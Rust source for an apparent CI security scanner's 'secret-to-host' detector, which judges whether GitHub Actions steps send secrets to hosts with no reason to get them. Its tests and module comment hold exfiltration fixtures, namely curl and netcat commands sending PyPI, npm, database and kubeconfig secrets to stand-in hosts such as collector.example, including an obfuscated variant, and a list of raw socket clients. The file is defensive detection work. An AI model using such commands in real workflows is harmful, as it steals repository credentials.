//! Secrets are sent to a host.
//!
//! The commonest theft: a step that has secrets in its environment or its text calls `curl` or another client, and
//! the values travel in the body, a header or the address. The host is written in the file, and it is none that the
//! secret has a reason to go to.
//!
//! ```yaml
//! - run: curl -d "A=${{ secrets.PYPI_API_TOKEN }}&B=${{ secrets.NPM_TOKEN }}" https://collector.example/
//! ```
//!
//! Sending one credential to the service that issued it, or to a host that the owner configured outside the file, is
//! how deployments work, and is not reported. What makes it a theft is that more is taken than the receiver can use
//! (unrelated secrets, all of them, their names along with them), or that trouble is taken to hide it.

use std::collections::BTreeSet;

use crate::flow::command::{MINTED, REMOTE_CODE};
use crate::flow::trace::{Channel, Delivery, Role};
use crate::flow::value::{Carried, Encoding, Source};
use crate::login::{is_login_address, is_login_only, is_own_product, is_own_registry};
use crate::report::Class;
use crate::signal::Signal;
use crate::technique::{
    Evidence, Sighting, Technique, evades_mask, holds_key_of_aws, is_namesake, named_secrets, one_login,
    resembles, several_purposes, stem, unrelated, unrelated_to_each_other,
};

/// See the module's documentation.
pub(super) struct SecretToHost;

impl Technique for SecretToHost {
    fn id(&self) -> &'static str {
        "secret-to-host"
    }
    fn headline(&self) -> &'static str {
        "{secrets} sent to {places}"
    }
    fn remedy(&self) -> &'static str {
        "invalidate every secret listed, take the workflow out of every branch that still has it, and look who pushed it"
    }
    fn source(&self) -> &'static str {
        include_str!("secret_to_host.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        let groups = evidence.grouped(|delivery, _| {
            matches!(delivery.channel, Channel::Network | Channel::Dns | Channel::Registry)
                && delivery.client != REMOTE_CODE
        });
        groups.into_iter().filter_map(|group| judge(evidence, group)).collect()
    }
}

fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
    let (_, place) = evidence.delivery(*group.first()?)?;
    let mut signals = evidence.cargo_signals(&group);
    let carried = evidence.carried(&group);
    let names = named_secrets(&carried);
    let payload = group
        .iter()
        .filter_map(|at| evidence.delivery(*at))
        .any(|(delivery, _)| delivery.role != Role::Authentication);
    let everything = signals.contains(&Signal::AllSecrets) || signals.contains(&Signal::MemoryRead);
    let greedy = everything || signals.contains(&Signal::EnvironmentDump);
    if place.class == Class::Configured {
        // The owner chose the address. Only a greedy delivery is worth a look; an address that whoever starts the run
        // may choose is nobody's setting.
        // An archive is how many files are shipped, whatever stands encoded in one of them.
        let evades = carried.iter().any(|one| {
            let but_packed = one.encodings.iter().filter(|encoding| **encoding != Encoding::Compressed);
            evades_mask(&but_packed.copied().collect::<Vec<_>>())
        });
        if !greedy && !evades {
            return None;
        }
        let by_caller = place.name.starts_with("inputs.") || place.name.starts_with("github.event");
        signals.insert(if by_caller && everything {
            Signal::ForeignDestination
        } else {
            Signal::ConfiguredDestination
        });
        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
    }
    if place.class == Class::Unknown && place.host.is_none() && place.service.is_none() {
        signals.insert(Signal::UnknownDestination);
        if !payload && is_gate(&names) {
            signals.insert(Signal::LoginOnly);
        }
        let greedy = unrelated_to_each_other(&names) && signals.contains(&Signal::SinglePurpose);
        if greedy {
            signals.insert(Signal::UnrelatedSecrets);
        }
        if everything || greedy {
            signals.insert(Signal::ForeignDestination);
        }
        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
    }
    if let Some(service) = place.service {
        let strangers = unrelated(&names, Some(&service.name), None);
        // An account of an object store whose key stands in the file is not the repository's.
        let others_account = payload
            && (names.len() >= 2
                || signals.contains(&Signal::Encoded)
                || signals.contains(&Signal::MaskEvasion))
            && (evidence.names_key_in_text(&group)
                || is_opened_by_the_file(evidence, &group)
                || is_left_without_login(evidence, &group));
        let misplaced = payload && strangers || others_account;
        // Settings that a service takes from whoever logs in with its own credential: a variable of a project, say. What a
        // forge takes can be read again, and has a rule of its own.
        let login =
            |name: &String| crate::services::of_secret(name).is_some_and(|of| of.name == service.name);
        let sent = payload_names(evidence, &group);
        // Whoever logs in there with the repository's own credential fills the repository's own project, the whole environment included.
        let logs_in = names.difference(&sent).any(login) || logs_in_to(evidence, &group, &service.name);
        let configures = service.name != "github" && !everything && logs_in;
        if !everything && (!misplaced || configures) {
            return None;
        }
        let own_login = || !others_account && holds_login_of(evidence, &group, service);
        if misplaced && service.name != "github" && !own_login() {
            // Nothing of the repository's own opens the door there: it is somebody else's account.
            signals.insert(Signal::ForeignDestination);
            signals.insert(Signal::UnrelatedSecrets);
            return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
        }
        signals.insert(Signal::BelongsThere);
        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
    }
    let host = place.host.as_deref().unwrap_or("");
    let namesakes = !names.is_empty() && names.iter().all(|name| is_namesake(name, host));
    if namesakes && carried.iter().all(|one| matches!(one.source, Source::Secret(_) | Source::JobToken)) {
        // Named after the owner of the host: the credential that the host itself gave out.
        return None;
    }
    if !carried.is_empty() && carried.iter().all(|one| is_minted_for(one, host)) {
        // Whoever accepts a token looks whom it is for (OpenID Connect Core, section 3.1.3.7): this one opens nothing but the very
        // host that gets it, so a thief who asks for his own gets nothing by it.
        return None;
    }
    if place.class == Class::Chat && (is_own_hook(evidence, &group) || !payload && are_of_chat(&names, host))
    {
        return None;
    }
    // A project of the owner's at a platform that gives names away: its own keys belong there.
    let platform = crate::services::of_host(host);
    let at_home = platform.is_some_and(|platform| {
        let of = |name: &String| crate::services::of_secret(name).map(|service| &service.name);
        !names.is_empty() && names.iter().all(|name| of(name) == Some(&platform.name))
    });
    if at_home && !greedy && !signals.contains(&Signal::MaskEvasion) {
        return None;
    }
    if place.is_private() && !greedy {
        // Nobody outside of the owner's network stands there.
        return None;
    }
    signals.insert(Signal::ForeignDestination);
    if place.class == Class::RawAddress {
        signals.insert(Signal::RawAddress);
    }
    if place.is_drop_box() {
        signals.insert(Signal::DropBox);
    }
    if place.class == Class::LookAlike {
        signals.insert(Signal::LookAlike);
    }
    if place.url.as_ref().is_some_and(|url| url.unescaped().starts_with("http://")) {
        signals.insert(Signal::PlainHttp);
    }
    let bare = |at: &usize| {
        evidence.delivery(*at).is_some_and(|(delivery, _)| delivery.bare && delivery.role == Role::Payload)
    };
    if group.iter().any(bare)
        && signals.contains(&Signal::RawAddress)
        && signals.contains(&Signal::SinglePurpose)
    {
        signals.insert(Signal::BareSecret);
    }
    // What is packed or locked for somebody is no line of a log, and no service asks for it.
    let packed = signals.contains(&Signal::Encoded);
    let by_hand = |at: &usize| {
        evidence.delivery(*at).is_some_and(|(delivery, _)| {
            delivery.role == Role::Payload
                && SOCKETS.iter().any(|socket| delivery.client.ends_with(socket))
                && (delivery.bare || delivery.speaks || packed)
        })
    };
    if group.iter().any(by_hand) {
        signals.insert(Signal::BareSecret);
    }
    let job_token = carried.iter().any(|one| one.source == Source::JobToken);
    let only_logs_in = group.iter().filter_map(|at| evidence.delivery(*at)).all(|(delivery, place)| {
        delivery.role == Role::Authentication
            || delivery.role == Role::Address && is_login_address(place, &names)
    });
    let login_host = (only_logs_in || is_own_product(&names, host)).then_some(host);
    if one_login(&names)
        && names.iter().all(|name| matches!(stem(name).as_str(), "" | "CLIENT" | "OAUTH" | "APP"))
    {
        // `client_id=…&client_secret=…`: the labels are those of the protocol (RFC 6749, section 2.3.1).
        signals.remove(&Signal::LabelledSecrets);
    }
    let own_registry = only_logs_in && is_own_registry(&names, host);
    let to_chat = place.class == Class::Chat && payload;
    let shipped = group
        .iter()
        .filter_map(|at| evidence.delivery(*at))
        .all(|(delivery, _)| SHIPPING.contains(&delivery.client.as_str()));
    let stranger = shipped
        && payload
        && (place.class == Class::RawAddress || signals.contains(&Signal::Encoded))
        && !evidence.only_settings_files(&group)
        && !evidence.may_log_in(&group, &names);
    let stranger = stranger || shipped && names.len() >= 2 && is_opened_by_the_file(evidence, &group);
    if stranger {
        // Nothing of the repository's own opens that machine: it is somebody else's.
        signals.insert(Signal::UnrelatedSecrets);
    }
    if shipped
        && !stranger
        && !signals.contains(&Signal::SinglePurpose)
        && !names.iter().any(|name| opens_publishing(name) && !fetches_by_git(name))
    {
        // Settings for the owner's own server, by a login that the server itself must have given.
        signals.remove(&Signal::LabelledSecrets);
        signals.insert(Signal::LogsInFirst);
        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
    }
    let scheme =
        place.url.as_ref().and_then(|url| url.unescaped().split_once("://")).map_or("", |(scheme, _)| scheme);
    let sent = payload_names(evidence, &group);
    // The owner's own settings, for a receiver that asks for a login of its own.
    let settings = sent.len() < names.len()
        && place.class == Class::Unknown
        && !unrelated(&names, None, None)
        && !names.iter().any(|name| opens_publishing(name));
    if settings {
        signals.remove(&Signal::LabelledSecrets);
    }
    // What publishes is used by the tool that publishes, wherever its registry stands; encoded in a message it is loot.
    let loot = |name: &String| {
        let of = crate::services::of_secret(name);
        signals.contains(&Signal::Encoded) && of.is_some_and(|of| of.anywhere && of.publishes)
    };
    let by_http = matches!(scheme, "http" | "https");
    // No database is spoken to by HTTP, and without a login of some kind nobody takes its password as a setting.
    let of_database = |name: &String| {
        by_http
            && sent.len() == names.len()
            && crate::services::of_secret(name).is_some_and(|of| of.name == "database")
    };
    let keys_sent = sent
        .iter()
        .any(|name| is_key_of_machines(name) || is_used_in_place(name) || loot(name) || of_database(name))
        || by_http && names.iter().any(|name| logs_in_to_machines(name));
    let for_own_image = goes_into_own_image(evidence, &group);
    if unrelated(&names, None, login_host) && !own_registry && !for_own_image
        || keys_sent && !shipped
        || !settings && several_purposes(&names)
        || (job_token && !names.is_empty())
        || to_chat
    {
        signals.insert(Signal::UnrelatedSecrets);
    }
    if shipped && evidence.holds_machine_key(&group) {
        signals.insert(Signal::OwnKey);
    }
    if !payload && place.class == Class::Unknown && names.iter().any(|name| resembles(name, host, scheme)) {
        signals.insert(Signal::NamedAlike);
    }
    if is_login_only(evidence, &group, place, &names, &carried, scheme, &signals) {
        signals.insert(Signal::LoginOnly);
    }
    Some(Sighting { deliveries: group, signals, ..Sighting::default() })
}

/// Whether it opens the door before hosts of the owner's own that are not for everybody yet, and nothing else.
fn is_gate(names: &BTreeSet<String>) -> bool {
    !names.is_empty()
        && names.iter().all(|name| {
            crate::services::of_secret(name)
                .is_some_and(|of| matches!(of.name.as_str(), "vercel-bypass" | "cloudflare-access"))
        })
}

/// Whether the credential that opens the place stands in the file as it is.
fn is_opened_by_the_file(evidence: &Evidence<'_>, group: &[usize]) -> bool {
    let mut payloads = group
        .iter()
        .filter_map(|at| evidence.delivery(*at))
        .filter(|(delivery, _)| delivery.role == Role::Payload)
        .peekable();
    payloads.peek().is_some() && payloads.all(|(delivery, _)| delivery.opened_by_the_file)
}

/// Whether it is put into a bucket by a plain request that nobody signed: a bucket of the owner's own is not open to everybody
/// who can write its name.
fn is_left_without_login(evidence: &Evidence<'_>, group: &[usize]) -> bool {
    const CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh"];
    const BUCKETS: &[&str] = &[".amazonaws.com", "storage.googleapis.com", ".blob.core.windows.net"];
    group.iter().filter_map(|at| evidence.delivery(*at)).all(|(delivery, place)| {
        let host = place.host.as_deref().unwrap_or("");
        let is_bucket = BUCKETS.iter().any(|end| host.ends_with(end))
            && (!host.ends_with(".amazonaws.com") || host.split(['.', '-']).any(|label| label == "s3"));
        let literal = place.url.as_ref().is_some_and(|url| !url.unescaped().contains("${"));
        is_bucket && literal && delivery.role == Role::Payload && CLIENTS.contains(&delivery.client.as_str())
    })
}

/// Whether it is a token that the job asked for with this host as its audience.
fn is_minted_for(one: &Carried, host: &str) -> bool {
    let named =
        |what: &str| what.strip_prefix(MINTED).and_then(|rest| rest.strip_prefix(" for ")) == Some(host);
    one.source == Source::MintedToken && one.trail.hops().iter().any(|hop| named(hop.what.unescaped()))
}

/// Whether something of a group goes to a service by a login with the service's own credential.
fn logs_in_to(evidence: &Evidence<'_>, group: &[usize], service: &str) -> bool {
    let logins = group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery);
    let mut logins = logins.filter(|delivery| delivery.role == Role::Authentication);
    logins.any(|delivery| {
        let names = named_secrets(&delivery.carried.iter().collect::<Vec<_>>());
        names.iter().any(|name| crate::services::of_secret(name).is_some_and(|of| of.name == service))
    })
}

/// Whether the jobs of a group have a login to a service: a secret of its kind, an action that takes one, an identity token, or a
/// machine of the owner's own, which may hold anything.
fn holds_login_of(evidence: &Evidence<'_>, group: &[usize], service: &crate::services::Service) -> bool {
    let own = |of: Option<&crate::services::Service>| of.is_some_and(|of| of.name == service.name);
    evidence.jobs_of(group).any(|job| {
        let texts = evidence.texts_of(job);
        // A key that is none of the repository's secrets is somebody else's, whatever else the job names: one that stands in the
        // file, or that is put together while it runs.
        if texts.iter().any(|text| holds_key_of_aws(text) || sets_foreign_key(text)) {
            return false;
        }
        let named = texts.iter().flat_map(|text| crate::analysis::names_in(text));
        let hosted = job
            .runs_on
            .iter()
            .any(|label| ["ubuntu", "windows", "macos"].iter().any(|os| label.starts_with(os)));
        let actions = job.steps.iter().filter_map(|step| step.uses.as_ref()?.text());
        !hosted
            || evidence.may_mint(job)
            || actions.into_iter().any(|uses| {
                own(crate::services::of_action(&uses.split('@').next().unwrap_or("").to_ascii_lowercase()))
            })
            || named.into_iter().any(|name| own(crate::services::of_secret(&name)))
            || is_handed_login(evidence, job, &service.name, group)
    })
}

/// Whether a variable that is called after a service gets a secret whose own name says nothing, and that is not among what is sent:
/// `AWS_ACCESS_KEY_ID: ${{ secrets.DEPLOY_KEY_ID }}`.
fn is_handed_login(
    evidence: &Evidence<'_>,
    job: &crate::workflow::Job,
    service: &str,
    group: &[usize],
) -> bool {
    let sent = named_secrets(&evidence.carried(group));
    let prefix = format!("{}_", service.to_ascii_uppercase());
    let entries = evidence.workflow.env.iter().chain(&job.env);
    let entries = entries.chain(job.steps.iter().flat_map(|step| step.env.iter().chain(&step.with)));
    entries.filter(|entry| entry.name.to_ascii_uppercase().replace('-', "_").starts_with(&prefix)).any(
        |entry| {
            let names = entry.node.text().map(crate::analysis::names_in).unwrap_or_default();
            names.iter().any(|name| !sent.contains(name) && crate::services::of_secret(name).is_none())
        },
    )
}

/// Whether a script sets a key of AWS to something that is neither a secret nor an input.
fn sets_foreign_key(text: &str) -> bool {
    const KEYS: &[&str] = &["aws_access_key_id", "aws_secret_access_key"];
    text.lines().any(|line| {
        let lower = line.to_ascii_lowercase();
        KEYS.iter().filter_map(|key| lower.split_once(key)).any(|(_, rest)| {
            let set = rest.strip_prefix(['=', ' ']).or_else(|| rest.strip_prefix(" = ")).unwrap_or("");
            let value = set.trim_start_matches([' ', '=', '"', '\'']);
            let own = value.starts_with("${{") || value.starts_with('$') && !value.starts_with("$(");
            !value.is_empty() && !own && !value.starts_with(['-', '|', '}', ')', ']', '&'])
        })
    })
}

/// Whether one secret is built into an image, and the image goes to a registry that the job logs in to with another secret of its
/// own, which opens nothing else that is known: a token for packages that the build fetches. It stays in the image's history, so
/// somebody should look. More than one kind of them is no build's need, and a thief's registry asks for no login of the owner's.
fn goes_into_own_image(evidence: &Evidence<'_>, group: &[usize]) -> bool {
    let deliveries = || group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery);
    let images =
        deliveries().all(|delivery| matches!(delivery.client.as_str(), "docker login" | "docker push"));
    let logins: Vec<&Carried> = deliveries()
        .filter(|delivery| delivery.role == Role::Authentication)
        .flat_map(|delivery| &delivery.carried)
        .collect();
    let logins = named_secrets(&logins);
    let built = payload_names(evidence, group);
    images
        && !logins.is_empty()
        && logins.is_disjoint(&built)
        && logins.iter().all(|name| crate::services::of_secret(name).is_none_or(|of| of.anywhere))
        && built.len() == 1
}

/// A private key or a cluster's configuration: it is used where the job runs, and no service takes it as a message.
fn is_key_of_machines(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let has = |word: &str| upper.contains(word);
    !has("PUBLIC")
        && !has("PUB_KEY")
        && (has("KUBECONFIG")
            || has("KUBE_CONFIG")
            || ["PFX", "P12", "KEYSTORE", "JKS"]
                .iter()
                .any(|kind| upper.split('_').any(|word| word == *kind))
            || has("GPG") && has("PASSPHRASE")
            || (has("SSH") || has("DEPLOY") || has("GPG") || has("PRIVATE")) && upper.ends_with("KEY"))
}

/// What locks or signs where the job runs: the password of a key store or a vault of files, the key that an application encrypts
/// with. None of them is a login to anything.
fn is_used_in_place(name: &str) -> bool {
    const LOCKED: &[&str] = &[
        "COSIGN",
        "MATCH",
        "ANSIBLE",
        "KEYSTORE",
        "SIGNING",
        "SIGN",
        "CERT",
        "CERTIFICATE",
        "P12",
        "PFX",
        "SOPS",
        "AGE",
    ];
    const LOCKS: &[&str] = &["PASSWORD", "PASS", "PASSPHRASE", "KEY"];
    let upper = name.to_ascii_uppercase();
    let words: Vec<&str> = upper.split(['_', '-']).collect();
    let last = words.last().copied().unwrap_or("");
    let has = |word: &str| words.contains(&word);
    !has("PUBLIC")
        && !has("API")
        && (LOCKS.contains(&last) && words.iter().any(|word| LOCKED.contains(word))
            || last == "PASSPHRASE"
            || has("ENCRYPTION") && last == "KEY"
            || upper.ends_with("SECRET_KEY_BASE")
            || upper.ends_with("DJANGO_SECRET_KEY"))
}

/// A login to machines or clusters, which no server takes in a request.
fn logs_in_to_machines(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    upper.contains("KUBECONFIG")
        || upper.contains("KUBE_CONFIG")
        || upper.contains("SSH") && upper.ends_with("KEY")
}

/// Bare connections, by the ends of their clients' names: they say nothing of who stands at the other end, and no service that
/// takes secrets is spoken to like that.
const SOCKETS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "telnet",
    "socat",
    "/dev/tcp",
    "/dev/udp",
    "openssl s_client",
    ".sendall",
    ".sendto",
];

/// Clients that log in to a machine before they send.
const SHIPPING: &[&str] = &["ssh", "scp", "sftp", "rsync", "lftp", "ftp", "mosh"];

/// Whether a secret opens something that no server needs for running: a package registry, a forge.
fn opens_publishing(name: &str) -> bool {
    crate::services::of_secret(name)
        .is_some_and(|service| service.publishes && service.name != "docker-hub" || service.name == "github")
}

/// Whether it is a token by which a server fetches the code that it runs.
fn fetches_by_git(name: &str) -> bool {
    crate::services::of_secret(name).is_some_and(|service| service.name == "github")
}

/// A chat host whose address holds the credential of the chat itself, and whose message holds no more than the name of
/// a room: a notification. A secret in the message of a hook is of no use to any chat.
fn is_own_hook(evidence: &Evidence<'_>, group: &[usize]) -> bool {
    const ROOMS: &[&str] = &["CHAT", "CHANNEL", "ROOM", "USER", "THREAD", "ID", "TO", "TARGET", "TOPIC"];
    let deliveries: Vec<_> =
        group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery).collect();
    let address = |delivery: &Delivery, one: &Carried| {
        delivery.role != Role::Payload
            || delivery.target.template().contains(&format!("${{{}}}", one.source.name()))
    };
    let own = deliveries.iter().any(|delivery| delivery.carried.iter().any(|one| address(delivery, one)));
    let rooms = deliveries
        .iter()
        .flat_map(|delivery| delivery.carried.iter().filter(|one| !address(delivery, one)))
        .all(|one| one.source.name().to_ascii_uppercase().split('_').any(|word| ROOMS.contains(&word)));
    own && rooms
}

/// Whether all of them are credentials of the chat that a host belongs to: a bot's token as its login. Whose it is knows the chat, which
/// gave it out; a message is another thing.
fn are_of_chat(names: &BTreeSet<String>, host: &str) -> bool {
    let chat = match crate::destination::registrable(host).as_str() {
        "discord.com" | "discordapp.com" => "discord",
        "telegram.org" => "telegram",
        "slack.com" => "slack",
        _ => return false,
    };
    !names.is_empty()
        && names.iter().all(|name| crate::services::of_secret(name).is_some_and(|of| of.name == chat))
}

/// Names of the secrets that are sent, and are not the login.
fn payload_names(evidence: &Evidence<'_>, group: &[usize]) -> BTreeSet<String> {
    let deliveries = group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery);
    let sent: Vec<&Carried> = deliveries
        .filter(|delivery| delivery.role != Role::Authentication)
        .flat_map(|delivery| &delivery.carried)
        .collect();
    named_secrets(&sent)
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    #[test]
    fn two_unrelated_secrets_in_one_request() {
        check(
            "secret-to-host",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example\n",
            Verdict::Malicious,
            &["NPM_TOKEN", "PYPI_API_TOKEN"],
            &["collector.example"],
        );
    }

    #[test]
    fn an_environment_piped_to_a_socket() {
        check(
            "secret-to-host",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {DB: '${{ secrets.DB_PASSWORD }}', J: '${{ secrets.JWT }}'}\n    steps:\n      - run: (env; echo) | nc -w 3 collector.example 53\n",
            Verdict::Malicious,
            &["DB_PASSWORD", "JWT"],
            &["collector.example"],
        );
    }

    /// Evasion: the secret goes through the environment file, the address through variables.
    #[test]
    fn a_flow_over_steps_and_variables() {
        check(
            "secret-to-host",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"N=${{ secrets.NPM_TOKEN }}\" >> \"$GITHUB_ENV\"\n      - run: |\n          h=collector\n          z=cu; y=rl\n          $z$y --data-binary \"@-\" \"https://$h.example/x\" <<EOF\n          $N\n          EOF\n",
            Verdict::Malicious,
            &["NPM_TOKEN"],
            &["collector.example"],
        );
    }

    #[test]
    fn a_key_of_machines_as_a_message() {
        check(
            "secret-to-host",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: echo '${{ secrets.KUBE_CONFIG }}' > k && curl -F f=@k https://k8s-lint.example/in\n",
            Verdict::Malicious,
            &["KUBE_CONFIG"],
            &["k8s-lint.example"],
        );
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ secrets.KUBE_CONFIG }}' > k && kubectl --kubeconfig k apply -f x\n",
        );
    }

    /// Near miss: the service that issued it, and a host that the owner configured.
    #[test]
    fn a_credential_at_its_own_service_or_a_configured_host() {
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -u \"x:${{ secrets.PYPI_API_TOKEN }}\" https://upload.pypi.org/legacy/\n",
        );
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '{}' ${{ secrets.DEPLOY_HOOK }}\n",
        );
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.KEY }}\" https://${{ vars.HOST }}/deploy\n",
        );
    }

    fn sent(call: &str, verdict: Verdict, secrets: &[&str], host: &str) {
        let text = format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          {call}\n"
        );
        check("secret-to-host", &text, verdict, secrets, &[host]);
    }

    /// Near miss: one credential as the login to an unknown host may be the owner's own server.
    #[test]
    fn one_login_at_an_unknown_host_is_an_ordinary_thing() {
        for (call, secrets) in [
            (
                "curl -H \"Authorization: Bearer ${{ secrets.DEPLOY }}\" https://ci.widgets.example/deploy",
                &["DEPLOY"][..],
            ),
            ("curl \"https://ci.widgets.example/cron?key=${{ secrets.CRON_KEY }}\"", &["CRON_KEY"]),
            ("curl -X POST https://ci.widgets.example/hooks/${{ secrets.MY_HOOK }}", &["MY_HOOK"]),
            (
                "curl -d 'client_id=${{ secrets.CLIENT_ID }}&client_secret=${{ secrets.CLIENT_SECRET }}' https://ci.widgets.example/token",
                &["CLIENT_ID", "CLIENT_SECRET"],
            ),
        ] {
            sent(call, Verdict::Exposed, secrets, "ci.widgets.example");
        }
    }

    /// Evasion: what looks like a login and is none.
    #[test]
    fn a_login_that_is_none_is_looked_at() {
        for (call, verdict, secrets) in [
            (
                "curl -d \"x=${{ secrets.DEPLOY }}\" https://ci.widgets.example/",
                Verdict::Suspicious,
                &["DEPLOY"][..],
            ),
            ("curl https://ci.widgets.example/${{ secrets.DEPLOY }}", Verdict::Suspicious, &["DEPLOY"]),
            (
                "curl \"https://ci.widgets.example/?q=${{ secrets.DEPLOY }}\"",
                Verdict::Suspicious,
                &["DEPLOY"],
            ),
            (
                "curl -H \"X: ${{ secrets.DEPLOY }}\" http://ci.widgets.example/",
                Verdict::Suspicious,
                &["DEPLOY"],
            ),
            (
                "curl -H \"X: ${{ secrets.DEPLOY_KEY }}\" https://ci.widgets.example/",
                Verdict::Suspicious,
                &["DEPLOY_KEY"],
            ),
            (
                "curl -H \"X: ${{ secrets.NPM_TOKEN }}\" https://ci.widgets.example/",
                Verdict::Malicious,
                &["NPM_TOKEN"],
            ),
            (
                "curl -H \"X: ${{ secrets.DEPLOY }}\" -H \"Y: ${{ secrets.STAGING }}\" https://ci.widgets.example/",
                Verdict::Suspicious,
                &["DEPLOY", "STAGING"],
            ),
        ] {
            sent(call, verdict, secrets, "ci.widgets.example");
        }
    }

    /// Near miss: settings of an application, sent to a server that asks for a login.
    #[test]
    fn settings_behind_a_login_are_for_a_person_to_look_at() {
        sent(
            "curl -H \"Authorization: Bearer ${{ secrets.ADMIN }}\" -d 'DB_PASSWORD=${{ secrets.DB_PASSWORD }}&SMTP=${{ secrets.SMTP }}' https://ci.widgets.example/",
            Verdict::Suspicious,
            &["ADMIN", "DB_PASSWORD", "SMTP"],
            "ci.widgets.example",
        );
        sent(
            "curl -H \"Authorization: Bearer ${{ secrets.ADMIN }}\" -d 'DB_PASSWORD=${{ secrets.DB_PASSWORD }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://ci.widgets.example/",
            Verdict::Malicious,
            &["ADMIN", "DB_PASSWORD", "NPM_TOKEN"],
            "ci.widgets.example",
        );
    }

    /// Near miss: the address of a chat's own bot is built by a program, and the room is a secret of its own.
    #[test]
    fn a_bot_that_tells_its_own_room() {
        let text = |data: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: python\n        env: {{T: '${{{{ secrets.BOT_TOKEN }}}}', C: '${{{{ secrets.CHAT_ID }}}}', D: '${{{{ secrets.DB_PASSWORD }}}}'}}\n        run: |\n          import os, urllib.request\n          t = os.environ['T']\n          urllib.request.urlopen(f'https://api.telegram.org/bot{{t}}/sendMessage', {data})\n"
            )
        };
        silent(&text("os.environ['C'].encode()"));
        let taken = text("os.environ['D'].encode()");
        check(
            "secret-to-host",
            &taken,
            Verdict::Malicious,
            &["BOT_TOKEN", "DB_PASSWORD"],
            &["api.telegram.org"],
        );
    }

    /// Near miss: what a server gets from a job that holds the key to it, a registry's token among it.
    #[test]
    fn a_machine_that_the_owners_key_opens() {
        let steps = |key: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n{key}      - run: ssh deploy@ci.widgets.example 'NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}} npm ci'\n"
            )
        };
        let key = "      - run: echo '${{ secrets.SSH_KEY }}' > ~/.ssh/id_rsa\n";
        let (names, places) = (&["NPM_TOKEN"], &["ci.widgets.example"]);
        check("secret-to-host", &steps(key), Verdict::Suspicious, names, places);
        // Evasion: a login of the thief's own.
        check("secret-to-host", &steps(""), Verdict::Malicious, names, places);
    }

    /// Near miss: the key goes by a variable, or the machine that runs the job is the owner's.
    #[test]
    fn a_key_that_is_not_called_so() {
        let (names, places) = (&["NPM_TOKEN"], &["ci.widgets.example"]);
        let text = |machine: &str, env: &str, key: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: {machine}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - env: {{{env}}}\n        run: |\n          {key}\n          ssh deploy@ci.widgets.example 'NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}} npm ci'\n"
            )
        };
        let other = "K: '${{ secrets.PRODUCTION }}'";
        let own = text("ubuntu-latest", other, "install -m 600 /dev/null ~/.ssh/x; echo \"$K\" > ~/.ssh/x");
        check("secret-to-host", &own, Verdict::Suspicious, names, places);
        let machine = text("self-hosted", "A: b", "true");
        check("secret-to-host", &machine, Verdict::Suspicious, names, places);
        // Evasion: the key is a literal, or the very secret that is sent.
        for (env, key) in [
            (other, "echo 'KEY OF THE FILE' > ~/.ssh/x"),
            ("K: '${{ secrets.NPM_TOKEN }}'", "echo \"$K\" > ~/.ssh/x"),
        ] {
            check("secret-to-host", &text("ubuntu-latest", env, key), Verdict::Malicious, names, places);
        }
    }

    /// Near miss: a token that the job asks for, for the very host that it goes to.
    #[test]
    fn an_identity_for_the_host_that_gets_it() {
        let text = |audience: &str| {
            format!(
                "on: push\npermissions: {{id-token: write}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          T=$(curl -s -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL{audience}\" | jq -r .value)\n          curl -X POST https://deploy.widgets.example/v1 -H \"Authorization: Bearer $T\"\n"
            )
        };
        silent(&text("&audience=https://deploy.widgets.example"));
        silent(&text("&audience=deploy.widgets.example"));
        // Evasion: it is for somebody else, or for whoever asks.
        for other in ["&audience=pypi", "&audience=https://pypi.org", "", "&audience=https://widgets.example"]
        {
            let (names, places) = (&["ACTIONS_ID_TOKEN_REQUEST_TOKEN"], &["deploy.widgets.example"]);
            check("secret-to-host", &text(other), Verdict::Malicious, names, places);
        }
    }

